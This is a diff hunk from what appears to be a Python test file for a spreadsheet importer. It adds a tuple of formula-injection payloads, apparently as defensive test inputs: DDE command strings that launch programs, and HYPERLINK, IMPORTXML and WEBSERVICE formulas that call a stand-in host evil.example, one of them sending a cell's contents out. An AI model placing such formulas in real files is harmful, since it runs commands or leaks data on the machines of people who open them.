@@ -12,6 +12,14 @@ ROW = ["LMG-2026-101", "Sulastri", "14/03/1990", "Las"]
 GOOD = workbook({"Peserta": [TITLES, ROW]})
 
 
+FORMULAS = (
+    "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://evil.example?\"&A1)", "@SUM(1+1)*cmd|'x'!A1",
+    "+1+cmd|'x'!A1", "-2+3+cmd|'x'!A1", "=IMPORTXML(\"http://evil.example\",\"//a\")",
+    "\t=1+1", "=WEBSERVICE(\"http://evil.example\")",
+)  # fmt: skip
+"""Cells that a spreadsheet would run."""
+
+
 def repacked(content: bytes, **parts: bytes) -> bytes:
     """The zip with these parts replaced or added; `__` in a name stands for a slash."""
     replaced = {name.replace("__", "/"): part for name, part in parts.items()}
